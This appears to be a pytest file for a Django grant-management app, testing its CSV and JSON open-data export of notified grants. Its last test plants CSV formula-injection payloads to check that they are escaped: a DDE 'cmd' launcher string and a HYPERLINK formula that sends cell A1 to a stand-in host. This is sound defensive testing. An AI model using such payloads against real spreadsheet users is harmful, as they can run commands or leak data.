"""What is notified is open data; a row that the schema would refuse stays out and says why."""

import csv
import io
import json
from datetime import date

import pytest

from faubourg.calls.models import BudgetLine, Payment
from faubourg.rules.open_data import COLUMNS, problems
from tests.factories.calls import ApplicationFactory, CallFunderFactory, FunderDecisionFactory
from tests.factories.people import OrganisationFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def region():
    return CallFunderFactory(organisation=OrganisationFactory(name="Région", siret="23590001800018"))


def granted(funder, cents=200_000, state="notified", cost=300_000, **fields):
    dossier = ApplicationFactory(submitted=True, call=funder.call, summary="Un jardin partagé.")
    BudgetLine.objects.create(application=dossier, account="601", cents=cost)
    return FunderDecisionFactory(
        application=dossier, funder=funder, amount_cents=cents, state=state, act="2015-1",
        voted_on=date(2015, 4, 1), notified_on=date(2015, 5, 2), **fields,
    )  # fmt: skip


def rows_of(client, address="/donnees/subventions.csv"):
    return list(csv.DictReader(io.StringIO(client.get(address).getvalue().decode())))


def test_a_notified_grant_is_a_valid_row(client, region):
    decision = granted(region)
    Payment.objects.create(
        decision=decision, cents=200_000, state="paid", ordered_on=date(2015, 6, 1), paid_on=date(2015, 6, 20)
    )
    (cells,) = rows_of(client)
    assert list(cells) == [column.name for column in COLUMNS]
    assert problems(cells) == ()
    assert (cells["montant"], cells["pourcentageSubvention"]) == ("2000.00", "0.6666")
    assert cells["datesPeriodeVersement"] == "2015-06-20"
    told = json.loads(client.get("/donnees/subventions-360.json").getvalue())["grants"]
    assert told[0]["amountAwarded"] == 2000


@pytest.mark.parametrize("state", ["requested", "favourable", "voted", "frozen", "cancelled"])
def test_what_is_not_notified_is_no_grant(client, region, state):
    granted(region, state=state)
    assert rows_of(client) == []


def test_the_natures_of_one_year_are_one_grant(client, region):
    decision = granted(region)
    FunderDecisionFactory(
        application=decision.application, funder=region, nature="investment", amount_cents=50_000,
        state="notified", voted_on=date(2015, 4, 1), notified_on=date(2015, 5, 2),
    )  # fmt: skip
    assert [cells["montant"] for cells in rows_of(client)] == ["2500.00"]


def test_a_row_that_the_schema_would_refuse_stays_out_and_says_why(client):
    granted(CallFunderFactory(name="Ville sans SIRET"))
    assert rows_of(client) == []
    assert "idAttribuant" in client.get("/donnees/").content.decode()


@pytest.mark.parametrize("cents", [300_001, 400_000, 2_000])
def test_a_share_out_of_the_schema_is_held_back_and_never_rounded_into_it(client, region, cents):
    granted(region, cents=cents, cost=300_000)
    granted(region, cents=300_000, cost=300_000)
    assert [cells["pourcentageSubvention"] for cells in rows_of(client)] == ["1.00"]
    page = client.get("/donnees/").content.decode()
    assert "pourcentageSubvention" in page
    assert "part du coût" in page


def test_one_call_at_a_time(client, region):
    granted(region)
    granted(CallFunderFactory(organisation=region.organisation))
    assert len(rows_of(client)) == 2
    assert len(rows_of(client, f"/appels/{region.call.code}/subventions.csv")) == 1


def test_three_thousand_rows_ask_what_three_ask(client, region, django_assert_max_num_queries):
    for rows in (1, 3):
        for _ in range(rows):
            granted(region)
        with django_assert_max_num_queries(8):
            rows_of(client)


def test_no_text_of_the_file_is_run_as_a_formula(client, region):
    decision = granted(region)
    decision.act = "@SUM(1)"
    decision.save()
    application = decision.application
    application.summary = "+cmd|' /C calc'!A0" + "x" * 300
    application.save()
    application.organisation.name = '=HYPERLINK("https://exemple.fr/?"&A1)'
    application.organisation.save()
    (cells,) = rows_of(client)
    assert problems(cells) == ()
    assert all(not cell.startswith(tuple("=+-@")) for cell in cells.values())
    assert cells["nomBeneficiaire"] == '\'=HYPERLINK("https://exemple.fr/?"&A1)'
    assert cells["referenceDecision"] == "'@SUM(1)"
